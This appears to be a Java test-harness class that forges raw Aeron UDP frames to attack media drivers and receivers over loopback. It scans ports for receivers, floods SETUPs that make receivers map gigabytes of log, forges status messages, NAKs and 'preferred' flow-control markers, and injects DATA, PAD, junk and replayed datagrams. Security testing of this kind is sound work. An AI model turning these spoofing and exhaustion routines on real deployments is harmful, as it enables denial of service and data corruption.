package io.lockstep.ps.attack;

import io.aeron.driver.Configuration;
import io.aeron.logbuffer.FrameDescriptor;
import io.aeron.logbuffer.LogBufferDescriptor;
import io.aeron.protocol.DataHeaderFlyweight;
import io.aeron.protocol.HeaderFlyweight;
import io.aeron.protocol.NakFlyweight;
import io.aeron.protocol.SetupFlyweight;
import io.aeron.protocol.StatusMessageFlyweight;
import org.agrona.BitUtil;
import org.agrona.BufferUtil;
import org.agrona.collections.Int2IntHashMap;
import org.agrona.collections.IntHashSet;
import org.agrona.concurrent.UnsafeBuffer;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;

/**
 * A black-box attacker that speaks raw Aeron over a plain UDP socket: no media driver, only Aeron's
 * own protocol flyweights writing the frames, so every frame is laid out exactly as a driver would
 * lay it out (little-endian fields, version 0, the driver's header lengths and flags).
 *
 * <p>All frames leave from one socket bound to a loopback port ({@link #localAddress()}); replies
 * (status messages from receivers that took a SETUP) come back to it and are read non-blocking.
 *
 * <p>What reaches a victim depends on its socket: a unicast publication's socket is connected to its
 * endpoint, so the kernel drops SMs and NAKs from any other source; a receiver, and a publication
 * with {@code control-mode=manual} (multi-destination-cast), take datagrams from anyone.
 */
public final class AeronAttacker implements AutoCloseable {
    /** The largest term Aeron accepts: a SETUP with it makes a receiver map 3 GiB of log per image. */
    public static final int DEFAULT_FLOOD_TERM_LENGTH = LogBufferDescriptor.TERM_MAX_LENGTH;
    /** The MTU the forged SETUPs announce (the driver's default; validated by receivers). */
    public static final int MTU = Configuration.MTU_LENGTH_DEFAULT;
    /** Probes use the smallest term, so the images they create on the receivers stay cheap. */
    static final int PROBE_TERM_LENGTH = LogBufferDescriptor.TERM_MIN_LENGTH;

    private final DatagramChannel channel;
    private final Random random;
    private final ByteBuffer outBytes = BufferUtil.allocateDirectAligned(
        Configuration.MAX_UDP_PAYLOAD_LENGTH, BitUtil.CACHE_LINE_LENGTH);
    private final UnsafeBuffer out = new UnsafeBuffer(outBytes);
    private final SetupFlyweight setup = new SetupFlyweight(out);
    private final DataHeaderFlyweight data = new DataHeaderFlyweight(out);
    private final StatusMessageFlyweight sm = new StatusMessageFlyweight(out);
    private final NakFlyweight nak = new NakFlyweight(out);
    private final ByteBuffer inBytes = BufferUtil.allocateDirectAligned(
        Configuration.MAX_UDP_PAYLOAD_LENGTH, BitUtil.CACHE_LINE_LENGTH);
    private final StatusMessageFlyweight reply = new StatusMessageFlyweight(new UnsafeBuffer(inBytes));
    private long bytesSent;

    /**
     * An attacker on an ephemeral loopback port drawing from a fixed seed, printed ({@code -Dlockstep.test.seed=N}
     * to try another).
     */
    public AeronAttacker() {
        this(new InetSocketAddress("127.0.0.1", 0), seeded());
    }

    private static Random seeded() {
        long seed = Long.getLong("lockstep.test.seed", 20_261_207L);
        System.out.println("AeronAttacker: random seed " + seed + " (-Dlockstep.test.seed=" + seed + ")");
        return new Random(seed);
    }

    /** An attacker sending from {@code bindAddress} (a port of 0 picks one), drawing ids from {@code random}. */
    public AeronAttacker(InetSocketAddress bindAddress, Random random) {
        this.random = random;
        try {
            channel = DatagramChannel.open();
            channel.configureBlocking(false); // one socket both sends and polls replies
            channel.bind(bindAddress);
        } catch (IOException e) {
            throw new UncheckedIOException("cannot bind attacker socket to " + bindAddress, e);
        }
    }

    /** Where this attacker's frames come from (and where receivers send their status messages). */
    public InetSocketAddress localAddress() {
        try {
            return (InetSocketAddress) channel.getLocalAddress();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * Sends a SETUP (fresh random session id, smallest term) for each stream id to every port in
     * {@code [fromPort, toPort]} of {@code host}, and returns, sorted, the ports whose receiver
     * answered with a status message for one of those sessions. A receiver answers only for a stream
     * it subscribes to and a session it accepts, and creates an image for the probe as it does.
     * Takes {@code budget} in all: replies are collected until it is spent.
     */
    public int[] scanForReceivers(String host, int fromPort, int toPort, int[] streamIds, Duration budget) {
        long deadlineNs = System.nanoTime() + budget.toNanos();
        Int2IntHashMap portBySession = new Int2IntHashMap(-1);
        IntHashSet answered = new IntHashSet();
        for (int port = fromPort; port <= toPort; port++) {
            InetSocketAddress target = new InetSocketAddress(host, port);
            for (int streamId : streamIds) {
                int sessionId = freshSessionId(portBySession);
                portBySession.put(sessionId, port);
                sendSetup(target, sessionId, streamId, PROBE_TERM_LENGTH);
                collectReplies(portBySession, answered);
            }
        }
        while (System.nanoTime() - deadlineNs < 0) {
            if (collectReplies(portBySession, answered) == 0) {
                LockSupport.parkNanos(200_000);
            }
        }
        int[] ports = answered.stream().mapToInt(Integer::intValue).toArray();
        Arrays.sort(ports);
        return ports;
    }

    /** Floods SETUPs at the driver's default (1 GiB) term length; see {@link #floodSetups(InetSocketAddress, int, int, int)}. */
    public long floodSetups(InetSocketAddress target, int streamId, int count) {
        return floodSetups(target, streamId, count, DEFAULT_FLOOD_TERM_LENGTH);
    }

    /**
     * Sends {@code count} SETUPs for {@code streamId}, each with a fresh random session id and
     * initial term id: a receiver subscribed to all sessions of the stream creates an image (and maps
     * a log of three terms) for each. Returns the bytes this call sent.
     */
    public long floodSetups(InetSocketAddress target, int streamId, int count, int termLength) {
        long before = bytesSent;
        for (int i = 0; i < count; i++) {
            sendSetup(target, random.nextInt(), streamId, termLength);
        }
        return bytesSent - before;
    }

    /** One SETUP frame, as {@code NetworkPublication} sends it for a stream at the start of its initial term. */
    public void sendSetup(InetSocketAddress target, int sessionId, int streamId, int termLength) {
        int initialTermId = random.nextInt();
        begin(SetupFlyweight.HEADER_LENGTH);
        setup.version(HeaderFlyweight.CURRENT_VERSION)
            .flags((short) 0)
            .headerType(HeaderFlyweight.HDR_TYPE_SETUP)
            .frameLength(SetupFlyweight.HEADER_LENGTH);
        setup.termOffset(0)
            .sessionId(sessionId)
            .streamId(streamId)
            .initialTermId(initialTermId)
            .activeTermId(initialTermId)
            .termLength(termLength)
            .mtuLength(MTU)
            .ttl(0);
        send(target, SetupFlyweight.HEADER_LENGTH);
    }

    /**
     * One unfragmented DATA frame (BEGIN|END) carrying {@code payload} at that term position. The
     * datagram is padded to the 32-byte frame alignment, as a sender's are, so the receiver's
     * high-water mark lands where the next genuine frame starts.
     */
    public void sendData(
        InetSocketAddress target, int sessionId, int streamId, int termId, int termOffset, byte[] payload) {
        int frameLength = DataHeaderFlyweight.HEADER_LENGTH + payload.length;
        int datagramLength = BitUtil.align(frameLength, FrameDescriptor.FRAME_ALIGNMENT);
        if (datagramLength > Configuration.MAX_UDP_PAYLOAD_LENGTH) {
            throw new IllegalArgumentException("payload too long for one datagram: " + payload.length);
        }
        begin(datagramLength);
        dataHeader(frameLength, HeaderFlyweight.HDR_TYPE_DATA, sessionId, streamId, termId, termOffset);
        out.putBytes(DataHeaderFlyweight.DATA_OFFSET, payload);
        send(target, datagramLength);
    }

    /**
     * One PAD frame: a 32-byte header whose frame length claims {@code padLength} bytes of the term,
     * as a publication pads the end of a term. A receiver's reader skips the whole claimed range.
     */
    public void sendPad(InetSocketAddress target, int sessionId, int streamId, int termId, int termOffset, int padLength) {
        begin(DataHeaderFlyweight.HEADER_LENGTH);
        dataHeader(padLength, HeaderFlyweight.HDR_TYPE_PAD, sessionId, streamId, termId, termOffset);
        send(target, DataHeaderFlyweight.HEADER_LENGTH);
    }

    /** A forged status message without a group tag (36 bytes); see the overload. */
    public void sendStatusMessage(
        InetSocketAddress control, int sessionId, int streamId, int termId, int termOffset,
        int receiverWindow, long receiverId) {
        sendStatusMessage(control, sessionId, streamId, termId, termOffset, receiverWindow, receiverId, null);
    }

    /**
     * A forged status message: "receiver {@code receiverId} has consumed up to (termId, termOffset)
     * and takes {@code receiverWindow} more". A non-null {@code groupTag} is written as Aeron 1.51's
     * receivers write theirs: an 8-byte application-specific-feedback field after the 36-byte header
     * (frame length 44), which tagged flow control reads as the receiver's group.
     */
    public void sendStatusMessage(
        InetSocketAddress control, int sessionId, int streamId, int termId, int termOffset,
        int receiverWindow, long receiverId, Long groupTag) {
        begin(StatusMessageFlyweight.HEADER_LENGTH + Long.BYTES);
        sm.version(HeaderFlyweight.CURRENT_VERSION)
            .flags((short) 0)
            .headerType(HeaderFlyweight.HDR_TYPE_SM);
        sm.sessionId(sessionId)
            .streamId(streamId)
            .consumptionTermId(termId)
            .consumptionTermOffset(termOffset)
            .receiverWindowLength(receiverWindow)
            .receiverId(receiverId)
            .groupTag(groupTag); // sets the frame length: 36, or 44 with a tag
        send(control, sm.frameLength());
    }

    /**
     * A forged status message whose application-specific feedback field holds {@code feedback} as it is (4 bytes of
     * {@code FFFFFFFF}, say, which Aeron's tagged flow control takes as the "preferred" marker, whatever the tag).
     */
    public void sendStatusMessageWithFeedback(
        InetSocketAddress control, int sessionId, int streamId, int termId, int termOffset,
        int receiverWindow, long receiverId, byte[] feedback) {
        int length = StatusMessageFlyweight.HEADER_LENGTH + feedback.length;
        begin(length);
        sm.version(HeaderFlyweight.CURRENT_VERSION)
            .flags((short) 0)
            .headerType(HeaderFlyweight.HDR_TYPE_SM);
        sm.sessionId(sessionId)
            .streamId(streamId)
            .consumptionTermId(termId)
            .consumptionTermOffset(termOffset)
            .receiverWindowLength(receiverWindow)
            .receiverId(receiverId)
            .groupTag(null);
        sm.frameLength(length);
        out.putBytes(StatusMessageFlyweight.HEADER_LENGTH, feedback);
        send(control, length);
    }

    /** A forged NAK: "resend {@code length} bytes from (termId, termOffset)". */
    public void sendNak(InetSocketAddress control, int sessionId, int streamId, int termId, int termOffset, int length) {
        begin(NakFlyweight.HEADER_LENGTH);
        nak.version(HeaderFlyweight.CURRENT_VERSION)
            .flags((short) 0)
            .headerType(HeaderFlyweight.HDR_TYPE_NAK)
            .frameLength(NakFlyweight.HEADER_LENGTH);
        nak.sessionId(sessionId)
            .streamId(streamId)
            .termId(termId)
            .termOffset(termOffset)
            .length(length);
        send(control, NakFlyweight.HEADER_LENGTH);
    }

    /** {@code count} datagrams of 0 to 1500 random bytes. */
    public void sendJunk(InetSocketAddress target, int count, Random rnd) {
        for (int i = 0; i < count; i++) {
            byte[] junk = new byte[rnd.nextInt(1501)];
            rnd.nextBytes(junk);
            send(target, ByteBuffer.wrap(junk));
        }
    }

    /** Sends each datagram again, unchanged and in order (captured ones, say, from a {@link UdpTap}). */
    public void replay(InetSocketAddress target, List<byte[]> datagrams) {
        for (byte[] datagram : datagrams) {
            send(target, ByteBuffer.wrap(datagram));
        }
    }

    /** Bytes this attacker has sent, all frames and datagrams together. */
    public long bytesSent() {
        return bytesSent;
    }

    @Override
    public void close() {
        try {
            channel.close();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void dataHeader(int frameLength, int type, int sessionId, int streamId, int termId, int termOffset) {
        data.version(HeaderFlyweight.CURRENT_VERSION)
            .flags(DataHeaderFlyweight.BEGIN_AND_END_FLAGS)
            .headerType(type)
            .frameLength(frameLength);
        data.termOffset(termOffset)
            .sessionId(sessionId)
            .streamId(streamId)
            .termId(termId)
            .reservedValue(DataHeaderFlyweight.DEFAULT_RESERVE_VALUE);
    }

    /** Zeroes the frame area: the flyweights share one buffer, and padding must go out as zeros. */
    private void begin(int length) {
        out.setMemory(0, length, (byte) 0);
    }

    private void send(InetSocketAddress target, int length) {
        outBytes.clear().limit(length);
        send(target, outBytes);
    }

    private void send(InetSocketAddress target, ByteBuffer datagram) {
        int length = datagram.remaining();
        try {
            while (channel.send(datagram, target) == 0 && length > 0) {
                Thread.onSpinWait(); // socket buffer full (non-blocking): the kernel frees it as datagrams leave
            }
        } catch (IOException e) {
            throw new UncheckedIOException("cannot send to " + target, e);
        }
        bytesSent += length;
    }

    private int freshSessionId(Int2IntHashMap used) {
        int sessionId;
        do {
            sessionId = random.nextInt();
        } while (used.containsKey(sessionId));
        return sessionId;
    }

    /** Reads every pending reply; an SM for one of our probe sessions marks its port. Returns datagrams read. */
    private int collectReplies(Int2IntHashMap portBySession, IntHashSet answered) {
        int read = 0;
        try {
            while (true) {
                inBytes.clear();
                if (channel.receive(inBytes) == null) {
                    return read;
                }
                read++;
                if (inBytes.position() >= StatusMessageFlyweight.HEADER_LENGTH
                    && reply.headerType() == HeaderFlyweight.HDR_TYPE_SM) {
                    int port = portBySession.get(reply.sessionId());
                    if (port != portBySession.missingValue()) {
                        answered.add(port);
                    }
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException("cannot read replies", e);
        }
    }
}
